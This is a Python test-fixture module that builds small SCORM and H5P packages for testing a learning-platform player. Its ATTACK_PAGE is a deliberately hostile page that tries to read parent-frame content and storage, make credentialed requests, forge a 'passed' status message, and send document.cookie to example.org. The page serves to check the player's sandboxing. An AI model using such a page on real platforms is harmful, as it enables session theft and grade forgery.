"""Small packages of our own, to be played in tests; and one that tries everything a package must not be able to do.

folder = scorm_12(tmp_path / "package", page=GOOD_PAGE)
"""

import json
from collections.abc import Mapping
from pathlib import Path

MANIFEST_12 = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="O"><organization identifier="O"><title>{title}</title>{items}</organization></organizations>
  <resources>{resources}</resources>
</manifest>"""
MANIFEST_2004 = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M" version="1.0" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="O"><organization identifier="O"><title>{title}</title>{items}</organization></organizations>
  <resources>{resources}</resources>
</manifest>"""
ITEM = '<item identifier="{id}" identifierref="R-{id}"{more}><title>{title}</title>{below}</item>'
RESOURCE = '<resource identifier="R-{id}" type="webcontent" adlcp:{scorm}="sco" href="{href}"><file href="{href}"/></resource>'
FIND_API = """
function api() { let w = window; for (let i = 0; i < 9 && w; i += 1) { if (w.API) return w.API; if (w === w.parent) break; w = w.parent; } }
"""
GOOD_PAGE = f"""<!doctype html><html lang="de"><meta charset="utf-8"><title>Teil</title><body>
<h1>Zwei Fragen</h1><p id="place"></p>
<button id="on">Weiter</button><button id="end">Fertig</button>
<script>{FIND_API}
  const lms = api();
  lms.LMSInitialize("");
  const place = document.getElementById("place");
  const show = () => (place.textContent = "Seite " + (lms.LMSGetValue("cmi.core.lesson_location") || "1"));
  document.getElementById("on").onclick = () => {{
    lms.LMSSetValue("cmi.core.lesson_location", String(1 + Number(lms.LMSGetValue("cmi.core.lesson_location") || "1")));
    lms.LMSSetValue("cmi.suspend_data", "Häkchen ✓ 😀");
    lms.LMSSetValue("cmi.core.exit", "suspend");
    lms.LMSCommit("");
    show();
  }};
  document.getElementById("end").onclick = () => {{
    lms.LMSSetValue("cmi.core.score.raw", "80");
    lms.LMSSetValue("cmi.core.lesson_status", "completed");
    lms.LMSSetValue("cmi.core.session_time", "00:05:00");
    lms.LMSFinish("");
    place.textContent = "Ende";
  }};
  show();
</script></body></html>"""
ATTACK_PAGE = """<!doctype html><html lang="de"><meta charset="utf-8"><title>Angriff</title><body>
<p id="done">…</p>
<script>
  const OURS = new URLSearchParams(location.search).get("ours") || document.referrer;
  const said = {};
  async function attempt(name, act) {
    try { said[name] = "did: " + String(await act()).slice(0, 200); } catch (error) { said[name] = "refused: " + error.name; }
  }
  (async () => {
    const ours = window.parent.document.documentElement.dataset.shownBy; // the player tells where it is shown
    await attempt("cookies", () => { document.cookie = "session=mine; path=/"; return document.cookie; });
    await attempt("page", () => window.top.document.body.innerHTML);
    await attempt("storage", () => window.top.localStorage.length);
    await attempt("api", async () => (await fetch(ours + "/meine-kurse", { credentials: "include" })).status);
    await attempt("here", async () => (await fetch("/meine-kurse", { credentials: "include" })).status);
    await attempt("elsewhere", async () => (await fetch("https://example.org/?" + document.cookie)).status);
    await attempt("picture", () => new Promise((yes, no) => {
      const one = new Image();
      one.onload = () => yes("loaded"); one.onerror = () => no(new TypeError("no")); one.src = ours + "/static/favicon.svg";
    }));
    await attempt("top", () => { window.top.location = "about:blank"; return "asked"; });
    await attempt("worker", () => navigator.serviceWorker.register("worker.js"));
    await attempt("frame", () => new Promise((yes, no) => {
      const one = document.createElement("iframe");
      one.src = ours + "/meine-kurse";
      one.onload = () => { try { yes(one.contentDocument.body.innerHTML); } catch (error) { no(error); } };
      document.body.append(one);
      setTimeout(() => no(new TypeError("silent")), 1500);
    }));
    await attempt("message", () => { window.top.postMessage({ type: "save", part: "a", data: { "cmi.core.lesson_status": "passed" } }, ours); return "sent"; });
    document.getElementById("done").textContent = JSON.stringify(said);
  })();
</script></body></html>"""


def scorm_12(folder: Path, pages: Mapping[str, str], *, title: str = "Probe", more: str = "") -> Path:
    """SCORM 1.2: one part for each page, in their order; `more` stands inside of every item."""
    return _scorm(folder, MANIFEST_12, "scormtype", pages, title, more)


def scorm_2004(folder: Path, pages: Mapping[str, str], *, title: str = "Probe", more: str = "") -> Path:
    """SCORM 2004, likewise."""
    return _scorm(folder, MANIFEST_2004, "scormType", pages, title, more)


def _scorm(folder: Path, manifest: str, scorm: str, pages: Mapping[str, str], title: str, below: str) -> Path:
    folder.mkdir(parents=True)
    items = "".join(
        ITEM.format(id=name, title=f"Teil {name.upper()}", more="", below=below) for name in pages
    )
    resources = "".join(RESOURCE.format(id=name, href=f"{name}.html", scorm=scorm) for name in pages)
    text = manifest.format(title=title, items=items, resources=resources)
    (folder / "imsmanifest.xml").write_text(text, encoding="utf-8")
    for name, page in pages.items():
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
    return folder


def h5p(folder: Path, *, libraries: bool = True) -> Path:
    """An H5P exercise whose one library does nothing."""
    (folder / "content").mkdir(parents=True)
    dependency = {"machineName": "H5P.Probe", "majorVersion": 1, "minorVersion": "2"}
    about = {"title": "Übung", "mainLibrary": "H5P.Probe", "preloadedDependencies": [dependency]}
    (folder / "h5p.json").write_text(json.dumps(about), encoding="utf-8")
    (folder / "content" / "content.json").write_text("{}", encoding="utf-8")
    if libraries:
        (folder / "H5P.Probe-1.2").mkdir()
        (folder / "H5P.Probe-1.2" / "library.json").write_text("{}", encoding="utf-8")
    return folder
